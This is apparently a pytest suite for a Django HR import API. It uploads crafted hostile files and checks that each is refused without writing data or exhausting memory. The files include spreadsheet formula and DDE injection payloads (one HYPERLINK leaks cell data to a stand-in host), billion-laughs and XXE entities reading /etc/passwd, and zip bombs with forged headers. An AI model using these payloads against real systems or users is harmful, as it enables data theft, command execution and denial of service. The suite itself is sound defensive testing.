"""Hostile input: a corpus of bad import files against ``POST /api/imports/leaders/``.

Each file is uploaded by HR through the API, as the web app does. For every file: the answer is
a 4xx with messages (by row and column where a row is to blame), nothing at all is written (row
counts of leaders, units, departments and administrations unchanged), and the request's peak of
Python memory, measured with ``tracemalloc`` around the request, stays under ``MEMORY_LIMIT``.
A few well-formed variants (BOM, UTF-16, cp1252) must import, to show that the refusals are
about hostility, not about encodings.
"""

from __future__ import annotations

import codecs
import io
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from rest_framework.test import APIClient

from backend.people import models as m
from backend.people.imports.columns import COLUMNS
from backend.people.imports.reading import MAX_FILE_BYTES
from backend.people.imports.sample import rows_to_csv, rows_to_xlsx, sample_rows
from tests.conftest import World

URL = "/api/imports/leaders/"
MEMORY_LIMIT = 200 * 1024 * 1024
HEADERS = [c.header for c in COLUMNS]


def rows(n: int = 3) -> list[dict[str, str]]:
    """``n`` valid rows for Børn og Unge of the persona municipality."""
    out = sample_rows(n, seed=8)
    for r in out:
        r["forvaltning"] = "Børn og Unge"
    return out


def counts() -> dict[str, int]:
    """What an import could write, counted."""
    return {
        "leaders": m.Leader.objects.count(),
        "units": m.Unit.objects.count(),
        "departments": m.Department.objects.count(),
        "administrations": m.Administration.objects.count(),
    }


@dataclass
class Answer:
    """An upload's answer and the request's peak Python memory."""

    status: int
    body: dict[str, object]
    peak_bytes: int

    def messages(self) -> list[dict[str, object]]:
        errors = self.body.get("errors")
        assert isinstance(errors, list) and errors, self.body
        return errors


@pytest.fixture
def upload(world: World, client_for: Callable[[m.User], APIClient]) -> Callable[..., Answer]:
    """Upload a file as HR and measure the request's peak memory."""
    client = client_for(world.hr)

    def send(content: bytes, filename: str) -> Answer:
        file = SimpleUploadedFile(filename, content, content_type="application/octet-stream")
        tracemalloc.start()
        try:
            response = client.post(URL, {"file": file}, format="multipart")
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        return Answer(status=response.status_code, body=response.json(), peak_bytes=peak)

    return send


# --- crafting hostile files ----------------------------------------------------------------------


def xlsx_with_part(part: str, transform: Callable[[bytes], bytes]) -> bytes:
    """A valid workbook with one part (``xl/worksheets/sheet1.xml`` ...) rewritten."""
    original = rows_to_xlsx(rows())
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(original)) as source,
        zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            data = source.read(item.filename)
            target.writestr(item, transform(data) if item.filename == part else data)
    return out.getvalue()


LAUGHS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<!DOCTYPE lolz [<!ENTITY lol "lollollollollollollollollollol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]>"
)
EXTERNAL = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
)


def xlsx_with_shared_strings(doctype: bytes, entity: bytes) -> bytes:
    """A valid workbook whose first heading comes from a shared-strings part with a DTD.

    openpyxl writes inline strings; Excel writes a shared-strings table, so the hostile part is
    added the way Excel lays it out (relationship, content type, ``t="s"`` cell).
    """
    strings = (
        doctype
        + b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        + b'uniqueCount="1"><si><t>'
        + entity
        + b"medarbejdernummer</t></si></sst>"
    )
    sheet_cell = b'<c r="A1" t="inlineStr"><is><t>medarbejdernummer</t></is></c>'
    rel = (
        b'<Relationship Id="rIdSST" Target="sharedStrings.xml" Type="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/>'
    )
    override = (
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.'
        b'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    )
    changes: dict[str, Callable[[bytes], bytes]] = {
        "xl/worksheets/sheet1.xml": lambda d: d.replace(
            sheet_cell, b'<c r="A1" t="s"><v>0</v></c>'
        ),
        "xl/_rels/workbook.xml.rels": lambda d: d.replace(
            b"</Relationships>", rel + b"</Relationships>"
        ),
        "[Content_Types].xml": lambda d: d.replace(b"</Types>", override + b"</Types>"),
    }
    original = rows_to_xlsx(rows())
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(original)) as source,
        zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename in changes:
                changed = changes[item.filename](data)
                assert changed != data, item.filename
                data = changed
            target.writestr(item, data)
        target.writestr("xl/sharedStrings.xml", strings)
    return out.getvalue()


def with_doctype(doctype: bytes, entity: bytes) -> Callable[[bytes], bytes]:
    """Put ``doctype`` in front of an XML part and ``entity`` into its first text node."""

    def transform(data: bytes) -> bytes:
        body = data.split(b"?>", 1)[-1]
        for marker in (b"<t>", b"<v>"):
            if marker in body:
                body = body.replace(marker, marker + entity, 1)
                break
        return doctype + body

    return transform


def zip_bomb_ratio() -> bytes:
    """A workbook whose sheet inflates to 400 MB of spaces (~400 kB compressed)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            block = b" " * (1024 * 1024)
            for _ in range(400):
                sheet.write(block)
    return out.getvalue()


def zip_bomb_lying() -> bytes:
    """A workbook whose directory says its sheet is 1 kB, while it inflates to 300 MB.

    The member's sizes are forged in both the local header and the central directory, so the
    archive check sees a small, plain part; only inflating it would show the truth.
    """
    original = rows_to_xlsx(rows())
    names: dict[str, bytes] = {}
    with zipfile.ZipFile(io.BytesIO(original)) as source:
        for name in source.namelist():
            names[name] = source.read(name)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    payload = names["xl/worksheets/sheet1.xml"][:200]
    chunks = [compressor.compress(payload)]
    zeros = b"\x00" * (1024 * 1024)
    chunks += [compressor.compress(zeros) for _ in range(300)]
    chunks.append(compressor.flush())
    bomb = b"".join(chunks)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as target:
        for name, data in names.items():
            if name != "xl/worksheets/sheet1.xml":
                target.writestr(name, data)
    archive = out.getvalue()
    # Append the forged member by hand: local header, data, and a rebuilt central directory.
    return _append_forged_member(archive, "xl/worksheets/sheet1.xml", bomb, claimed=1024)


def _append_forged_member(archive: bytes, name: str, deflated: bytes, *, claimed: int) -> bytes:
    """Rebuild ``archive`` with one more deflated member claiming ``claimed`` bytes unpacked."""
    import struct

    end = archive.rindex(b"PK\x05\x06")
    (_, _, _, _, entries, cd_size, cd_offset, _) = struct.unpack(
        "<4sHHHHIIH", archive[end : end + 22]
    )
    local_part = archive[:cd_offset]
    central = archive[cd_offset : cd_offset + cd_size]
    raw_name = name.encode()
    crc = 0  # wrong on purpose as well: the reader must never get as far as checking it
    offset = len(local_part)
    local = (
        struct.pack(
            "<4sHHHHHIIIHH",
            b"PK\x03\x04",
            20,
            0,
            8,
            0,
            0x21,
            crc,
            len(deflated),
            claimed,
            len(raw_name),
            0,
        )
        + raw_name
    )
    entry = (
        struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            0x21,
            crc,
            len(deflated),
            claimed,
            len(raw_name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        + raw_name
    )
    new_central = central + entry
    new_offset = offset + len(local) + len(deflated)
    eocd = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, entries + 1, entries + 1, len(new_central), new_offset, 0
    )
    return local_part + local + deflated + new_central + eocd


def huge_csv() -> bytes:
    """A CSV just over the size limit (valid rows, then padding in a free-text column)."""
    head = rows_to_csv(rows())
    filler = b"x" * 1000
    lines = []
    size = len(head)
    i = 0
    while size <= MAX_FILE_BYTES:
        line = b";".join([str(900000 + i).encode(), filler]) + b"\r\n"
        lines.append(line)
        size += len(line)
        i += 1
    return head + b"".join(lines)


def csv_text(data: list[dict[str, str]], **kwargs: object) -> bytes:
    return rows_to_csv(data, **kwargs)  # type: ignore[arg-type]


def formula_rows(payload: str, column: str) -> bytes:
    data = rows()
    data[1][column] = payload
    return rows_to_csv(data)


def cpr_rows(text: str, column: str) -> bytes:
    data = rows()
    data[2][column] = text
    return rows_to_csv(data)


def wrong_columns() -> bytes:
    data = rows()
    for r in data:
        r["CPR-nummer"] = ""
        r.pop("efternavn")
    return rows_to_csv(data)


# --- the corpus ----------------------------------------------------------------------------------

#: (id, file, filename, expected messages: list of (row, column) or "file" for whole-file errors)
CORPUS: list[tuple[str, Callable[[], bytes], str, object]] = [
    (
        "formula-hyperlink",
        lambda: formula_rows('=HYPERLINK("http://x.test/?"&A1,"klik")', "fornavn"),
        "a.csv",
        [(3, "fornavn")],
    ),
    (
        "formula-plus-cmd",
        lambda: formula_rows("+cmd|' /C calc'!A0", "stillingsbetegnelse"),
        "a.csv",
        [(3, "stillingsbetegnelse")],
    ),
    (
        "formula-at-sum",
        lambda: formula_rows("@SUM(1+1)*cmd|' /C calc'!A0", "målgruppe"),
        "a.csv",
        [(3, "målgruppe")],
    ),
    (
        "formula-minus",
        lambda: formula_rows("-2+3+cmd|' /C calc'!A0", "enhed"),
        "a.csv",
        [(3, "enhed")],
    ),
    (
        "formula-in-xlsx",
        lambda: rows_to_xlsx([{**r, "fornavn": '=HYPERLINK("http://x.test")'} for r in rows()]),
        "a.xlsx",
        [(2, "fornavn"), (3, "fornavn"), (4, "fornavn")],
    ),
    (
        "cpr-in-target-group",
        lambda: cpr_rows("Vikar for 010190-1234", "målgruppe"),
        "a.csv",
        [(4, "målgruppe")],
    ),
    (
        "cpr-in-title-with-space",
        lambda: cpr_rows("Leder (311285 4321)", "stillingsbetegnelse"),
        "a.csv",
        [(4, "stillingsbetegnelse")],
    ),
    (
        "cpr-ten-digits-in-name",
        lambda: cpr_rows("Hanne 0101901234", "fornavn"),
        "a.csv",
        [(4, "fornavn")],
    ),
    (
        "cpr-as-employee-number",
        lambda: cpr_rows("150372-1111", "medarbejdernummer"),
        "a.csv",
        [(4, "medarbejdernummer")],
    ),
    ("wrong-columns", wrong_columns, "a.csv", [(1, "CPR-nummer"), (1, "efternavn")]),
    (
        "utf16-without-bom-is-not-text",
        lambda: csv_text(rows(), encoding="utf-16-le"),
        "a.csv",
        "file",
    ),
    (
        "bom-then-formula",
        lambda: codecs.BOM_UTF8 + formula_rows("=1+1", "fornavn"),
        "a.csv",
        [(3, "fornavn")],
    ),
    ("huge-file", huge_csv, "a.csv", "file"),
    ("zip-bomb-ratio", zip_bomb_ratio, "a.xlsx", "file"),
    ("zip-bomb-lying-sizes", zip_bomb_lying, "a.xlsx", "file"),
    (
        "billion-laughs-sheet",
        lambda: xlsx_with_part("xl/worksheets/sheet1.xml", with_doctype(LAUGHS, b"&lol9;")),
        "a.xlsx",
        "file",
    ),
    (
        "billion-laughs-shared-strings",
        lambda: xlsx_with_shared_strings(LAUGHS, b"&lol9;"),
        "a.xlsx",
        "file",
    ),
    (
        "billion-laughs-workbook",
        lambda: xlsx_with_part("xl/workbook.xml", with_doctype(LAUGHS, b"")),
        "a.xlsx",
        "file",
    ),
    (
        "external-entity-shared-strings",
        lambda: xlsx_with_shared_strings(EXTERNAL, b"&xxe;"),
        "a.xlsx",
        "file",
    ),
    (
        "shared-strings-plain-control",
        lambda: xlsx_with_shared_strings(b"", b"=cmd|"),
        "a.xlsx",
        [(1, "=cmd|medarbejdernummer")],
    ),
    ("xlsx-named-but-csv", lambda: rows_to_csv(rows()), "a.xlsx", "file"),
    ("old-xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4096, "a.xls", "file"),
    ("binary-garbage", lambda: bytes(range(256)) * 64, "a.csv", "file"),
    ("empty", lambda: b"", "a.csv", "file"),
]


@pytest.mark.parametrize(
    ("make", "filename", "expected"), [pytest.param(*c[1:], id=c[0]) for c in CORPUS]
)
def test_hostile_file_is_refused_whole_with_messages_and_bounded_memory(
    world: World,
    upload: Callable[..., Answer],
    make: Callable[[], bytes],
    filename: str,
    expected: object,
) -> None:
    content = make()
    before = counts()
    answer = upload(content, filename)
    assert 400 <= answer.status < 500, answer.body
    assert answer.body.get("ok") is False
    messages = answer.messages()
    assert all(str(e.get("message", "")).strip() for e in messages), messages
    if expected == "file":
        assert any(e.get("row") is None for e in messages), messages
    else:
        got = {(e["row"], e["column"]) for e in messages}
        assert set(expected) <= got, messages  # type: ignore[arg-type]
    assert counts() == before, "a refused file wrote rows"
    assert answer.peak_bytes < MEMORY_LIMIT, f"peak {answer.peak_bytes / 2**20:.0f} MB"


def test_cpr_message_never_repeats_the_number(world: World, upload: Callable[..., Answer]) -> None:
    answer = upload(cpr_rows("Vikar for 010190-1234", "målgruppe"), "a.csv")
    assert answer.status == 400
    assert "010190" not in str(answer.body)


def test_formula_cells_after_a_valid_import_leave_the_first_import_alone(
    world: World, upload: Callable[..., Answer]
) -> None:
    good = rows(5)
    assert upload(rows_to_csv(good), "a.csv").status == 200
    before = counts()
    names = set(m.Leader.objects.values_list("first_name", flat=True))
    changed = [dict(r) for r in good]
    for r in changed:
        r["stillingsbetegnelse"] = "Ny titel"
    changed[4]["efternavn"] = "=cmd|' /C calc'!A0"
    answer = upload(rows_to_csv(changed), "a.csv")
    assert answer.status == 400
    assert counts() == before
    assert set(m.Leader.objects.values_list("first_name", flat=True)) == names
    assert not m.Leader.objects.filter(role_title="Ny titel").exists()  # no partial update


@pytest.mark.parametrize(
    ("encode", "label"),
    [
        (lambda d: rows_to_csv(d, bom=True), "utf-8 with BOM"),
        (lambda d: codecs.BOM_UTF16_LE + rows_to_csv(d, encoding="utf-16-le"), "utf-16 with BOM"),
        (lambda d: rows_to_csv(d, encoding="cp1252"), "cp1252"),
    ],
    ids=["bom", "utf16", "cp1252"],
)
def test_odd_but_honest_encodings_import_with_æøå(
    world: World,
    upload: Callable[..., Answer],
    encode: Callable[[list[dict[str, str]]], bytes],
    label: str,
) -> None:
    data = rows(4)
    data[0]["efternavn"] = "Ærø-Østergård"
    answer = upload(encode(data), "ledere.csv")
    assert answer.status == 200, answer.body
    assert answer.body["leaders_created"] == 4
    assert m.Leader.objects.filter(last_name="Ærø-Østergård").exists(), label
    assert answer.peak_bytes < MEMORY_LIMIT
